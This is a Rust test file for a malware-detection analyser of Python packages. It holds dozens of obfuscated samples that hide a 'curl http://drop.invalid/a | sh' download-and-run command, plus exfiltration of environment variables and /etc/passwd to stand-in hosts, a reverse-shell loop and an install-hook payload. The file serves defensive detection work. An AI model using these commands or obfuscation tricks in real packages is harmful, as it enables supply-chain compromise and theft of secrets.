//! What the analysis sees through: each sample is a technique, each line beside it what must be known of it.

use model::{FactKind, FieldValue, Phase, facts};

use crate::{Analysis, Behaviours, Budget, Role, Roles, Unit, analyse, analyse_together};

pub(crate) fn behaviours() -> Behaviours {
    let table: toml::Table = include_str!("../../../rules/lists/behaviours.toml").parse().unwrap();
    let mut behaviours = Behaviours::default();
    for entry in table["behaviour"].as_array().unwrap() {
        let id = entry["id"].as_str().unwrap();
        let words: Vec<&str> = entry["flow"].as_array().unwrap().iter().filter_map(toml::Value::as_str).collect();
        behaviours.declare(id, Roles::from_words(&words));
        for name in entry["names"].as_array().unwrap() {
            behaviours.insert(name.as_str().unwrap(), id);
        }
    }
    behaviours
}

pub(crate) fn analysed(role: Role, source: &str) -> Analysis {
    entered(role, source, &[])
}

fn entered(role: Role, source: &str, entered: &[&str]) -> Analysis {
    let entered: Vec<String> = entered.iter().map(|name| (*name).to_owned()).collect();
    let behaviours = behaviours();
    // The stack that the program gives to an analysis.
    std::thread::scope(|scope| {
        let run = || {
            let unit = Unit {
                path: "pkg/module.py",
                role,
                phase: role.phase(),
                module: "pkg.module",
                source: source.as_bytes(),
                entered: &entered,
            };
            analyse(&unit, &behaviours, &mut Budget::default())
        };
        std::thread::Builder::new().stack_size(64 << 20).spawn_scoped(scope, run).unwrap().join().unwrap()
    })
}

/// A project of several modules, walked from the first.
pub(crate) fn analysed_together(modules: &[(&str, &str)]) -> Analysis {
    let behaviours = behaviours();
    let names: Vec<String> = modules
        .iter()
        .map(|(path, _)| path.trim_end_matches(".py").trim_end_matches("/__init__").replace('/', "."))
        .collect();
    let units: Vec<Unit<'_>> = modules
        .iter()
        .zip(&names)
        .map(|((path, source), module)| Unit {
            path,
            role: Role::Package,
            phase: Phase::Import,
            module,
            source: source.as_bytes(),
            entered: &[],
        })
        .collect();
    analyse_together(&units, 0, &behaviours, &mut Budget::default())
}

fn calls(analysis: &Analysis) -> Vec<&facts::Call> {
    analysis
        .facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::Call(call) => Some(call),
            _ => None,
        })
        .collect()
}

pub(crate) fn flows(analysis: &Analysis) -> Vec<&facts::Flow> {
    analysis
        .facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::Flow(flow) => Some(flow),
            _ => None,
        })
        .collect()
}

fn layers(analysis: &Analysis) -> Vec<&facts::Layer> {
    analysis
        .facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::Layer(layer) => Some(layer),
            _ => None,
        })
        .collect()
}

/// The call of that name, wherever it is.
#[track_caller]
fn call<'a>(analysis: &'a Analysis, callee: &str) -> &'a facts::Call {
    let all = calls(analysis);
    match all.iter().find(|call| call.callee == callee) {
        Some(call) => call,
        None => panic!("no call of {callee} among {:?}", all.iter().map(|call| &call.callee).collect::<Vec<_>>()),
    }
}

#[track_caller]
pub(crate) fn flow<'a>(analysis: &'a Analysis, source: &str, sink: &str) -> &'a facts::Flow {
    let all = flows(analysis);
    match all.iter().find(|flow| flow.source == source && flow.sink == sink) {
        Some(flow) => flow,
        None => panic!(
            "no flow {source} to {sink} among {:?}",
            all.iter().map(|flow| (&flow.source, &flow.sink)).collect::<Vec<_>>()
        ),
    }
}

/// The command that each sample ends in, if it was seen through.
const COMMAND: &str = "curl http://drop.invalid/a | sh";

/// Each sample must resolve to a call of `os.system` with [`COMMAND`] as its text.
#[track_caller]
fn runs(sample: &str) {
    let analysis = analysed(Role::Package, sample);
    let found = calls(&analysis).into_iter().any(|call| {
        call.callee == "os.system" && call.text.iter().any(|text| text == COMMAND) && call.phase == Phase::Import
    });
    assert!(found, "not seen through: {sample}\n{:#?}", analysis.facts);
}

#[test]
fn names_resolve_however_they_are_reached() {
    for sample in [
        "import os\nos.system(C)",
        "import os as o\nrun = o.system\nrun(C)",
        "from os import system as s\ns(C)",
        "from os import *\nsystem(C)",
        "import posix\nposix.system(C)",
        "import shutil\nshutil.os.system(C)",
        "__import__('os').system(C)",
        "__import__('o' + 's').system(C)",
        "import importlib\nimportlib.import_module('so'[::-1]).system(C)",
        "from importlib import import_module as load\nload('os').system(C)",
        "import os\ngetattr(os, 'sys' + 'tem')(C)",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))(C)",
        "import os\nos.__dict__['system'](C)",
        "import os\nvars(os)['system'](C)",
        "import os\nos.__getattribute__('system')(C)",
        "import os\nglobals()['os'].system(C)",
        "import os, sys\nsys.modules['os'].system(C)",
        "import os\ntable = {'a': os.system}\ntable['a'](C)",
        "import os\ntable = [print, os.system]\ntable[1](C)",
        "import os\nfrom functools import partial\npartial(os.system, C)()",
        "import os\nfrom operator import attrgetter\nattrgetter('system')(os)(C)",
        "import os\n(lambda f: f(C))(os.system)",
        "import os\nclass A:\n    run = os.system\nA.run(C)",
        "import os\nclass A:\n    def __init__(self):\n        self.run = os.system\n    def go(self):\n        self.run(C)\nA().go()",
        "import os\ndef outer():\n    def inner(x):\n        os.system(x)\n    inner(C)\nouter()",
        "import os\nif (f := os.system):\n    f(C)",
        "import os\na, *b = [1, os.system]\nb[0](C)",
        "import os\n[f(C) for f in (os.system,)]",
        "import os\nsetattr(os, 'thing', 1)\neval('os.system')(C)",
        "exec('import os')\nos.system(C)",
        "import os\nimport threading\nthreading.Thread(target=os.system, args=(C,)).start\nos.system(C)",
        "import os, threading\ndef work():\n    os.system(C)\nthreading.Thread(target=work).start()",
        "import os, atexit\n@atexit.register\ndef work():\n    os.system(C)",
        "import os, threading\nclass T(threading.Thread):\n    def run(self):\n        os.system(C)\nT().start()",
        "𝔬𝔰 = __import__('os')\nos.𝓼𝔂𝓼𝓽𝓮𝓶(C)",
        "import os\ndef deco(f):\n    f()\n    return f\n@deco\ndef work():\n    os.system(C)",
        "import os, asyncio\nasync def main():\n    os.system(C)\nasyncio.run(main())",
        "import os\ntry:\n    import nothing\nexcept ImportError:\n    os.system(C)",
    ] {
        runs(&sample.replace("(C", &format!("('{COMMAND}'")).replace("system, C", &format!("system, '{COMMAND}'")));
    }
}

#[test]
fn values_are_folded_however_they_are_made() {
    let reversed: String = COMMAND.chars().rev().collect();
    let codes: Vec<String> = COMMAND.bytes().map(|byte| byte.to_string()).collect();
    let codes = codes.join(", ");
    let shifted: String = COMMAND.bytes().map(|byte| char::from(byte + 1)).collect();
    let hidden: Vec<String> = COMMAND.bytes().map(|byte| (byte ^ 7).to_string()).collect();
    let hidden = hidden.join(", ");
    let hex: String = COMMAND.bytes().map(|byte| format!("{byte:02x}")).collect();
    let escaped: String = COMMAND.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    let rot: String = crate::decode::rot13(COMMAND);
    let base64 = {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(COMMAND)
    };
    let parts = COMMAND.split_at(9);
    let number = COMMAND.bytes().fold(String::from("0x"), |text, byte| text + &format!("{byte:02x}"));
    let length = COMMAND.len();
    for sample in [
        format!("s = '{}' + '{}'", parts.0, parts.1),
        format!("s = '{}'\ns += '{}'", parts.0, parts.1),
        format!("s = '{reversed}'[::-1]"),
        format!("s = ''.join(reversed('{reversed}'))"),
        format!("s = ''.join(chr(c) for c in [{codes}])"),
        format!("s = ''.join(map(chr, [{codes}]))"),
        format!("s = bytes([{codes}]).decode()"),
        format!("s = bytearray([{codes}]).decode('ascii')"),
        format!("s = ''\nfor c in '{shifted}':\n    s += chr(ord(c) - 1)"),
        format!("s = ''\nfor c in '{shifted}':\n    s = s + chr(ord(c) - 1)"),
        format!("s = ''.join(chr(c ^ 7) for c in [{hidden}])"),
        format!("out = []\nfor c in [{hidden}]:\n    out.append(chr(c ^ 7))\ns = ''.join(out)"),
        format!("i = 0\ns = ''\nt = [{hidden}]\nwhile i < len(t):\n    s += chr(t[i] ^ 7)\n    i += 1"),
        format!("def d(t, k):\n    return ''.join(chr(x ^ k) for x in t)\ns = d([{hidden}], 7)"),
        format!("d = lambda t: ''.join([chr(x ^ 7) for x in t])\ns = d([{hidden}])"),
        format!(
            "class D:\n    k = 7\n    def go(self, t):\n        return ''.join(chr(x ^ self.k) for x in t)\ns = D().go([{hidden}])"
        ),
        format!("from itertools import cycle\ns = ''.join(chr(a ^ b) for a, b in zip([{hidden}], cycle([7])))"),
        format!("s = bytes.fromhex('{hex}').decode()"),
        format!("import binascii\ns = binascii.unhexlify('{hex}').decode('utf-8')"),
        format!("import codecs\ns = codecs.decode('{rot}', 'rot13')"),
        format!("import codecs\ns = codecs.decode(b'{hex}', 'hex').decode()"),
        format!("import base64\ns = base64.b64decode('{base64}').decode()"),
        format!("from base64 import b64decode as b\ns = str(b('{base64}'), 'utf8')"),
        format!("s = '{escaped}'"),
        format!("s = '%s%s' % ('{}', '{}')", parts.0, parts.1),
        format!("s = '{{1}}{{0}}'.format('{}', '{}')", parts.1, parts.0),
        format!("a = '{}'\ns = f\"{{a}}{}\"", parts.0, parts.1),
        format!("s = '{}'.replace('@', 'l')", COMMAND.replace('l', "@")),
        format!("s = '{}'.translate(str.maketrans('01', 'rl'))", COMMAND.replace('r', "0").replace('l', "1")),
        format!("s = ({number}).to_bytes({length}, 'big').decode()"),
        format!("t = {{'k': ['{COMMAND}']}}\ns = t['k'][0]"),
        format!("import json\ns = json.loads('{{\"a\": \"{COMMAND}\"}}')['a']"),
        format!("a = ['x', '{COMMAND}']\ns = a[-1] if len(a) > 1 else ''"),
        format!("from functools import reduce\ns = reduce(lambda a, b: a + b, '{COMMAND}')"),
        format!("def g():\n    for c in '{COMMAND}':\n        yield c\ns = ''.join(g())"),
        format!("s = '{}'.split('-')\ns = ''.join(s)", COMMAND.chars().map(String::from).collect::<Vec<_>>().join("-")),
    ] {
        runs(&format!("{sample}\nimport os\nos.system(s)\n"));
    }
}

#[test]
fn a_substitution_over_an_alphabet_is_undone() {
    let alphabet = "abcdefghijklmnopqrstuvwxyz";
    let mirrored: String =
        COMMAND.chars().map(|c| if c.is_ascii_lowercase() { char::from(b'z' - (c as u8 - b'a')) } else { c }).collect();
    runs(&format!(
        "import os, string\na = string.ascii_lowercase\nb = a[::-1]\n\
         s = ''.join([b[a.index(c)] if c in a else c for c in '{mirrored}'])\nos.system(s)"
    ));
    runs(&format!(
        "import os\nt = dict(zip('{alphabet}', reversed('{alphabet}')))\ns = ''.join(t.get(c, c) for c in '{mirrored}')\nos.system(s)"
    ));
}

#[test]
fn hidden_names_are_said_to_be_hidden() {
    let indirect = |sample: &str| call(&analysed(Role::Package, sample), "os.system").indirect.clone();
    assert!(indirect("import os\nos.system('x')").is_empty());
    assert_eq!(indirect("import os\ngetattr(os, 'system')('x')"), ["getattr"]);
    assert_eq!(indirect("import os\ngetattr(os, 'sys' + 'tem')('x')"), ["getattr", "computed"]);
    assert_eq!(indirect("__import__('os').system('x')"), ["import"]);
    assert_eq!(indirect("import os\nr = os.system\nr('x')"), ["alias"]);
    assert_eq!(indirect("import os\nvars(os)['system']('x')"), ["namespace"]);
    let analysis = analysed(Role::Package, "run = exec\nrun(input())");
    assert_eq!(call(&analysis, "exec").indirect, ["alias"]);
}

#[test]
fn decoded_layers_are_walked_as_python_would() {
    // import os\nos.system('curl http://x.invalid | sh')
    let sample =
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5pbnZhbGlkIHwgc2gnKQ=='))";
    let analysis = analysed(Role::Package, sample);
    let inner = call(&analysis, "os.system");
    assert_eq!((inner.layer, inner.phase), (1, Phase::Import));
    let layer = layers(&analysis)[0];
    assert_eq!((layer.operation.as_slice(), layer.language.as_str()), (&["base64".to_owned()][..], "python"));
    assert_eq!((layer.sink.as_str(), layer.depth), ("code.exec", 1));
    assert_eq!(analysis.layers[0].bytes, b"import os\nos.system('curl http://x.invalid | sh')");
    let place =
        &analysis.facts.iter().find(|fact| fact.kind.field("layer") == Some(FieldValue::Integer(1))).unwrap().place;
    assert_eq!((place.line, place.layers.len(), place.layers[0].line), (2, 1, 2));
    assert_eq!(flow(&analysis, "decode.base64", "code.exec").phase, Phase::Import);
}

#[test]
fn layers_within_layers_share_their_names() {
    let inner = "f('curl http://drop.invalid/a | sh')";
    let middle = format!("exec({inner:?})");
    runs(&format!("import os\nf = os.system\nexec({middle:?})"));
    runs("import os\nexec(compile(\"os.system('curl http://drop.invalid/a | sh')\", '', 'exec'))");
    let analysis = analysed(Role::Package, "import os\nexec('import os;os.system(\"%s\")' % input())");
    assert_eq!(call(&analysis, "os.system").layer, 1);
}

#[test]
fn wrappings_in_a_loop_are_peeled_to_the_last() {
    use base64::Engine as _;
    let mut code = format!("import os\nos.system('{COMMAND}')");
    for _ in 0..40 {
        code = format!(
            "import base64;exec(base64.b64decode('{}'))",
            base64::engine::general_purpose::STANDARD.encode(&code)
        );
        // Each wrapping is a third longer: forty would be a thousand times; compress as the real ones do.
        if code.len() > 2_000_000 {
            break;
        }
    }
    runs(&code);
}

#[test]
fn code_in_a_command_or_a_file_is_a_layer() {
    let sample = "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os; os.system(\"x\")'])";
    assert_eq!(call(&analysed(Role::Package, sample), "os.system").layer, 1);
    let sample = "import os\nos.system('python3 -c \"import socket; socket.socket().connect((1, 2))\"')";
    assert_eq!(call(&analysed(Role::Package, sample), "socket.socket.connect").layer, 1);
    // powershell -enc of `iex(iwr http://x.invalid)` in UTF-16.
    let sample = "import os\nos.system('powershell -w hidden -enc aQBlAHgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AeAAuAGkAbgB2AGEAbABpAGQAKQA=')";
    let analysis = analysed(Role::Package, sample);
    assert!(layers(&analysis).iter().any(|layer| layer.text.contains("iex(iwr http://x.invalid)")));
    let sample = "open('run.py', 'w').write('import os\\nos.system(\"x\")\\n')";
    let analysis = analysed(Role::Package, sample);
    assert_eq!(layers(&analysis)[0].sink, "file.write");
    assert_eq!(call(&analysis, "os.system").layer, 1);
}

#[test]
fn decoded_text_that_goes_nowhere_is_told_when_it_speaks() {
    let sample = "import base64\nURL = base64.b64decode('aHR0cHM6Ly9ob3N0LmludmFsaWQvaG9vaw==').decode()";
    let analysis = analysed(Role::Package, sample);
    assert_eq!((layers(&analysis)[0].language.as_str(), layers(&analysis)[0].sink.as_str()), ("url", ""));
    // Never decoded in view: import os\nos.system('curl http://x.invalid | sh')
    let sample = "DATA = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5pbnZhbGlkIHwgc2gnKQ=='";
    assert_eq!(layers(&analysed(Role::Package, sample))[0].operation, ["base64"]);
    let honest = "KEY = 'bm90aGluZyB0byBzZWUgaGVyZSwganVzdCBzb21lIHdvcmRzIHRoYXQgYXJlIGxvbmcgZW5vdWdoIDEy'";
    assert!(layers(&analysed(Role::Package, honest)).is_empty());
}

#[test]
fn phases_follow_what_calls_what() {
    let phase = |role, sample: &str| call(&analysed(role, sample), "os.system").phase;
    let body = "import os\ndef f():\n    os.system('x')\n";
    assert_eq!(phase(Role::Package, body), Phase::Call);
    assert_eq!(phase(Role::Package, &format!("{body}f()")), Phase::Import);
    assert_eq!(phase(Role::Setup, &format!("{body}f()")), Phase::Install);
    assert_eq!(phase(Role::Data, &format!("{body}f()")), Phase::Never);
    // Of tests that nothing runs the shape is told, and no more.
    let tests = analysed(Role::Tests, &format!("{body}f()"));
    assert!(matches!(tests.facts[..], [model::Fact { kind: model::FactKind::Source(_), .. }]), "{:?}", tests.facts);
    assert_eq!(phase(Role::Package, &format!("{body}def g():\n    f()\n")), Phase::Call);
    assert_eq!(phase(Role::Package, &format!("{body}def g():\n    f()\ng()")), Phase::Import);
    assert_eq!(phase(Role::Package, &format!("{body}if __name__ == '__main__':\n    f()")), Phase::Call);
    assert_eq!(phase(Role::Setup, &format!("{body}if __name__ == '__main__':\n    f()")), Phase::Install);
    assert_eq!(
        phase(Role::Backend, "import os\ndef build_wheel(a, b=None, c=None):\n    os.system('x')"),
        Phase::Install
    );
    assert_eq!(phase(Role::Pth, "/path\nimport os; os.system('x')\n"), Phase::Startup);
    assert_eq!(
        phase(Role::Package, "import os\nclass A:\n    def __init__(self):\n        os.system('x')\nA()"),
        Phase::Import
    );
    assert_eq!(phase(Role::Package, "import os\nif 0:\n    os.system('x')"), Phase::Import);
    assert_eq!(phase(Role::Package, "import os\ndef f():\n    return 1\n    os.system('x')"), Phase::Call);
}

#[test]
fn calls_across_modules_run_in_the_callers_phase() {
    let caller = "from .core import run, Client\nfrom .other import *\nrun()\nClient('x').start()\ngo()\ndef later():\n    idle()\n";
    let analysis = analysed(Role::Package, caller);
    assert_eq!(analysis.called, ["pkg.core.run", "pkg.core.Client", "pkg.core.Client.start", "pkg.other.go"]);
    let body =
        "import os\ndef run():\n    os.system('x')\nclass Client:\n    def start(self):\n        os.remove('x')\n";
    let quiet = analysed(Role::Package, body);
    assert_eq!(call(&quiet, "os.system").phase, Phase::Call);
    let busy = entered(Role::Package, body, &["pkg.module.run", "pkg.module.Client.start", "pkg.module.none"]);
    assert_eq!(call(&busy, "os.system").phase, Phase::Import);
    assert_eq!(call(&busy, "os.remove").phase, Phase::Import);
    let passed = entered(Role::Init, "from .core import run", &["pkg.module.run"]);
    assert_eq!(passed.called, ["pkg.core.run"]);
}

#[test]
fn commands_of_setup_run_on_installation() {
    let sample = "
from setuptools import setup
from setuptools.command.install import install
import os
class Hook(install):
    def run(self):
        install.run(self)
        os.system('x')
setup(name='demo', cmdclass={'install': Hook})
";
    let analysis = analysed(Role::Setup, sample);
    assert_eq!(call(&analysis, "os.system").phase, Phase::Install);
    let hook = calls(&analysis).into_iter().find(|call| call.behaviour.contains(&"install.hook".to_owned())).unwrap();
    assert_eq!(
        (hook.callee.as_str(), hook.keyword.as_slice()),
        ("setuptools.setup", &["cmdclass=install".to_owned()][..])
    );
    let unregistered = sample.replace(", cmdclass={'install': Hook}", "");
    assert_eq!(call(&analysed(Role::Setup, &unregistered), "os.system").phase, Phase::Install);
}

#[test]
fn data_flows_through_variables_containers_and_functions() {
    for (sample, source, sink) in [
        (
            "import urllib.request\nexec(urllib.request.urlopen('http://x.invalid').read())",
            "network.fetch",
            "code.exec",
        ),
        ("import requests, os\nos.system(requests.get('http://x.invalid').text)", "network.fetch", "process.spawn"),
        (
            "import os, requests\nrequests.post('http://x.invalid', data=dict(os.environ))",
            "environment.read",
            "network.send",
        ),
        (
            "import os, requests\nrequests.get('http://x.invalid/?u=' + os.environ['USER'])",
            "environment.read",
            "network.fetch",
        ),
        (
            "import os, requests\nd = {}\nd['u'] = os.getenv('USER')\nrequests.post('http://x.invalid', json=d)",
            "environment.read",
            "network.send",
        ),
        (
            "import os, requests\ndef get():\n    return os.getenv('T')\ndef put(x):\n    requests.post('http://x.invalid', data=x)\nput(get())",
            "environment.read",
            "network.send",
        ),
        (
            "import os, requests\nl = []\nfor k in ['A', 'B']:\n    l.append(os.getenv(k))\nrequests.post('http://x.invalid', data=','.join(l))",
            "environment.read",
            "network.send",
        ),
        (
            "import os, requests\nclass C:\n    def __init__(self):\n        self.t = os.getenv('T')\n    def go(self):\n        requests.post('http://x.invalid', data=f'{self.t}')",
            "environment.read",
            "network.send",
        ),
        (
            "import requests\nwith open('/etc/passwd') as f:\n    requests.post('http://x.invalid', files={'f': f})",
            "file.read",
            "network.send",
        ),
        (
            "import requests, os\ndata = requests.get('http://x.invalid/a.exe').content\nopen('a.exe', 'wb').write(data)\nos.startfile('a.exe')",
            "network.fetch",
            "process.spawn",
        ),
        (
            "import requests, subprocess\ndef f(path):\n    with open(path, 'wb') as h:\n        h.write(requests.get('http://x.invalid').content)\n    subprocess.Popen([path])\n",
            "network.fetch",
            "process.spawn",
        ),
        (
            "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.invalid/p.exe', 'p.exe')\nsubprocess.call('p.exe')",
            "network.fetch",
            "process.spawn",
        ),
        (
            "import tempfile, subprocess, sys, urllib.request\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(urllib.request.urlopen('http://x.invalid').read())\nt.close()\nsubprocess.Popen([sys.executable, t.name])",
            "network.fetch",
            "process.spawn",
        ),
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\nwhile True:\n    c = s.recv(1024).decode()\n    o = subprocess.check_output(c, shell=True)\n    s.send(o)",
            "network.fetch",
            "process.spawn",
        ),
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\nwhile True:\n    c = s.recv(1024).decode()\n    o = subprocess.check_output(c, shell=True)\n    s.send(o)",
            "process.output",
            "network.send",
        ),
    ] {
        let analysis = analysed(Role::Package, sample);
        let flow = flow(&analysis, source, sink);
        assert!(!flow.source_callee.is_empty() && !flow.sink_callee.is_empty(), "{sample}");
    }
    let quiet = "import os, requests\nos.getenv('A')\nrequests.get('http://x.invalid')";
    assert!(flows(&analysed(Role::Package, quiet)).is_empty());
}

#[test]
fn a_download_that_is_run_names_both_ends() {
    let sample = "
import os, tempfile, requests, subprocess
path = os.path.join(tempfile.gettempdir(), 'svc.exe')
with open(path, 'wb') as handle:
    handle.write(requests.get('http://drop.invalid/svc.exe').content)
subprocess.Popen(path, shell=True, creationflags=0x08000000)
";
    let analysis = analysed(Role::Setup, sample);
    let flow = flow(&analysis, "network.fetch", "process.spawn");
    assert_eq!(flow.source_callee, "requests.get");
    assert_eq!(flow.source_text, ["http://drop.invalid/svc.exe"]);
    assert_eq!(flow.via, ["file.write"]);
    assert_eq!((flow.phase, flow.source_line), (Phase::Install, 5));
    let spawn = call(&analysis, "subprocess.Popen");
    assert_eq!(spawn.keyword, ["shell=True", "creationflags=134217728"]);
}

#[test]
fn old_python_is_still_understood() {
    let sample = "import os\nprint 'hello'\nexec \"os.system('x')\"\nprint 'bye'\nos.remove('a')\n";
    let analysis = analysed(Role::Package, sample);
    assert_eq!(call(&analysis, "os.system").layer, 1);
    assert_eq!(call(&analysis, "os.remove").phase, Phase::Import);
}

#[test]
fn folding_bombs_are_refused_before_they_are_computed() {
    for sample in [
        "x = 'a' * 10**12",
        "x = 9**9**9",
        "x = '%1000000000d' % 1",
        "x = f'{1:1000000000}'",
        "x = [0] * 10**9",
        "x = 'a'\nfor i in range(10**9):\n    x += x",
        "x = 'aaaaaaaa'\nwhile True:\n    x = x.replace('a', 'aaaaaaaaaa')\n    if len(x) == 1: break\n    i += 1",
        "x = 1 << 10**9",
        "x = range(10**12)\ny = list(x)",
        "x = bytes(10**12)",
        "def f(n):\n    return f(n - 1) + f(n - 2)\nf(50)",
        "x = [[[[[[1]*9]*9]*9]*9]*9]*9\ny = str(x)",
        "a = []\na.append(a)\nprint(a, str(a))",
        "f = lambda g: g(g)\nf(f)",
        "from functools import partial\nf = print\nfor i in range(5000):\n    f = partial(f, i)\nf()",
        "class A:\n    pass\na = A()\na.a = a\nimport os\nos.system(a)",
        "x = ''.join(chr(i % 100 + 30) for i in range(10**7))",
        "d = {}\nfor i in range(10**6):\n    d[i] = i",
    ] {
        // Ends, within the fuel that one source has.
        let analysis = analysed(Role::Package, sample);
        assert!(analysis.layers.is_empty(), "{sample}");
    }
}

#[test]
fn an_import_by_call_is_known_relative_to_its_module() {
    for (call, module) in [
        ("importlib.import_module('.tests.run', __package__)", "pkg.tests.run"),
        ("importlib.import_module('..other', 'pkg.sub')", "other"),
        ("importlib.import_module('.run', 'pkg.tests')", "pkg.tests.run"),
        ("importlib.import_module(__package__ + '.tests.run')", "pkg.tests.run"),
        ("importlib.import_module(f'{__name__}.run')", "pkg.module.run"),
    ] {
        let analysis = analysed(Role::Package, &format!("import importlib\n{call}\n"));
        assert!(analysis.imports.iter().any(|import| import == module), "{call}: {:?}", analysis.imports);
    }
}

#[test]
fn what_a_setup_puts_elsewhere_is_told() {
    use crate::Placed::{Command, Data, Package};
    let sample = "import os\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\n\
                  setup(package_dir={'x': 'tests', 'y': os.path.join(here, 'docs')}, scripts=['tools/run'],\n\
                  data_files=[('lib', ['docs/x.pth'])])\n";
    let placed = analysed(Role::Setup, sample).placed;
    for wanted in [
        Package("tests".to_owned()),
        Package("docs".to_owned()),
        Command("tools/run".to_owned()),
        Data("docs/x.pth".to_owned()),
    ] {
        assert!(placed.contains(&wanted), "{placed:?}");
    }
}

#[test]
fn a_source_is_analysed_as_each_reader_has_it() {
    let cookie = "# a\r# b\r# coding: utf-7\n# +AAo-import os+AAo-os.system('x')\n";
    let analysis = analysed(Role::Setup, cookie);
    assert_eq!(call(&analysis, "os.system").phase, Phase::Install);
    let analysis = analysed(Role::Pth, "# coding: rot13\nimport os;os.system('x')\n/a\x0cimport os;os.remove('y')\n");
    assert_eq!(call(&analysis, "os.system").phase, Phase::Startup);
    assert_eq!(call(&analysis, "os.remove").phase, Phase::Startup);
}

#[test]
fn the_same_source_gives_the_same_facts() {
    let sample = "import os, requests\nd = {k: os.getenv(k) for k in ['A', 'B', 'C']}\nrequests.post('http://x.invalid', json=d)\n\
                  class A:\n    def __init__(self, **k):\n        self.a = os.getenv('Z')\n        self.b = open('x').read()\n    def go(self):\n        requests.post('u', data=self)\n";
    let first = format!("{:?}", analysed(Role::Package, sample).facts);
    assert_eq!(first, format!("{:?}", analysed(Role::Package, sample).facts));
}
